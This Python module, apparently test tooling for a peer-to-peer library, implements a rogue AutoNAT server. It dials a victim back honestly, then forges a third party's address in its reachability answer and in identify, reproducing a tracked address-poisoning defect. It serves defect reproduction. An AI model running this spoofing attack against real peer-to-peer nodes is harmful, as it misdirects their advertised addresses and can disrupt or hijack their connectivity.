"""A lying AutoNAT server (issue 16, defect 12): it dials the victim back genuinely (a fresh
connection to the victim's real address, the nonce delivered) and reports a third party's address
as the one it reached. It also reports that address as what it observed for the victim (identify),
so the victim tests it as a candidate. Unfixed, the victim advertised the third party's address as
its own public address after one such answer.
"""

from __future__ import annotations

import time
from typing import Any

import trio

from lattice import _proto
from lattice.errors import LatticeError
from lattice.identity import KeyPair
from lattice.multiaddr import Multiaddr
from lattice.nat import autonat
from lattice.transport import identify, open_host
from lattice.transport.framing import read_delimited

OK = 0


def _frame(fields: list) -> bytes:
    return _proto.delimited(_proto.encode(fields))


async def rogue_server(
    victim: str, forged: str, hold: float, local_ip: str = "127.0.1.1", lie_in_identify: bool = True
) -> dict[str, Any]:
    """Connect to ``victim`` (multiaddr) from ``local_ip`` and, for ``hold`` seconds, answer its
    reachability checks as above, naming ``forged`` (a multiaddr); ``lie_in_identify``: also report
    it as observed (so it is among the victim's candidates). Returns counts."""
    out: dict[str, Any] = {"attack": "autonat_rogue", "requests": 0, "dialed_back": 0, "forged_answers": 0}
    target = Multiaddr.parse(victim)
    forged_addr = Multiaddr.parse(forged)

    async with open_host(KeyPair.generate()) as host:

        async def lying_identify(stream) -> None:  # we "observed" the victim at the forged address
            await stream.write(_proto.delimited(identify.encode(host, forged_addr)))

        async def answer(stream) -> None:
            with trio.fail_after(10):
                raw = await read_delimited(stream, autonat.MAX_MESSAGE)
                if raw is None:
                    return
                request = _proto.decode(raw)
                out["requests"] += 1
                nonce = _proto.one_int(request, 1)
                if nonce is not None and await _dial_back(host, target, nonce):
                    out["dialed_back"] += 1
                await stream.write(_frame([(1, OK), (2, forged_addr.to_bytes())]))
                out["forged_answers"] += 1

        if lie_in_identify:
            host.set_stream_handler(identify.PROTOCOL_ID, lying_identify)
        host.set_stream_handler(autonat.PROTOCOL_ID, answer)
        ip, port = target.tcp_target()
        with trio.fail_after(10):
            sock = await trio.open_tcp_stream(ip, port, local_address=local_ip)
            await host.adopt(sock, True, target.without_peer(), expected=target.peer_id)
        started = time.monotonic()
        await trio.sleep(hold)
        out["seconds"] = round(time.monotonic() - started, 2)
    return out


async def _dial_back(host, target: Multiaddr, nonce: int) -> bool:
    """What an honest server does: a fresh connection to the victim's real address, the nonce on it."""
    ip, port = target.tcp_target()
    try:
        with trio.fail_after(5):
            sock = await trio.open_tcp_stream(ip, port)
            conn = await host.adopt(sock, True, target.without_peer(), expected=target.peer_id, probe=True)
            try:
                stream = await host.new_stream(conn, [autonat.DIAL_BACK_ID])
                await stream.write(_frame([(1, nonce)]))
                await stream.close()
                await stream.read(1)
            finally:
                await conn.close()
        return True
    except (OSError, LatticeError, trio.TooSlowError):
        return False
